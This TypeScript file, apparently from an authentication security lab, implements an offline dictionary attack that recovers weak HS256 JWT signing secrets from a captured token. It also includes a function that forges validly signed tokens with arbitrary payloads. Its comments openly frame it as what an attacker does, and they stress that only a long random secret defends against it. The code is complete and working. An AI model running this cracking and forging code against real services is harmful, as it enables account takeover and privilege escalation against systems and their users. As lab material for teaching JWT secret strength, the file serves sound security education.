/** Forging HS256 tokens with Web Crypto: what an attacker does once the secret is guessable. */
import { base64UrlEncode } from '@authlab/contract';
export interface SecretSearch {
  /** The signing secret, when a word in the list reproduces the token's signature. */
  secret?: string;
  tried: number;
  elapsedMs: number;
}

export interface SecretSearchOptions {
  signal?: AbortSignal;
  maxDurationMs?: number;
}

async function hmacSHA256(secret: string, data: string): Promise<Uint8Array> {
  const encoder = new TextEncoder();
  const key = await crypto.subtle.importKey('raw', encoder.encode(secret), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
  return new Uint8Array(await crypto.subtle.sign('HMAC', key, encoder.encode(data)));
}

function bytesToBase64Url(bytes: Uint8Array): string {
  let binary = '';
  for (const byte of bytes) binary += String.fromCharCode(byte);
  return btoa(binary).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
}

/**
 * Tries each word as the HMAC secret of a captured HS256 token. Offline: the server never sees
 * a single guess, so neither lockout nor rate limiting can help; only a long random secret does.
 */
export async function crackHS256Secret(token: string, words: readonly string[], options: SecretSearchOptions = {}): Promise<SecretSearch> {
  const started = performance.now();
  const [header, payload, signature] = token.split('.');
  if (header === undefined || payload === undefined || signature === undefined) return { tried: 0, elapsedMs: 0 };
  let tried = 0;
  for (const word of words) {
    options.signal?.throwIfAborted();
    if (performance.now() - started >= (options.maxDurationMs ?? Number.POSITIVE_INFINITY)) break;
    tried++;
    if (bytesToBase64Url(await hmacSHA256(word, `${header}.${payload}`)) === signature) {
      return { secret: word, tried, elapsedMs: performance.now() - started };
    }
  }
  return { tried, elapsedMs: performance.now() - started };
}

/** A properly signed HS256 token with any payload the attacker likes. */
export async function signHS256(payload: Record<string, unknown>, secret: string): Promise<string> {
  const signingInput = `${base64UrlEncode(JSON.stringify({ alg: 'HS256', typ: 'JWT' }))}.${base64UrlEncode(JSON.stringify(payload))}`;
  return `${signingInput}.${bytesToBase64Url(await hmacSHA256(secret, signingInput))}`;
}
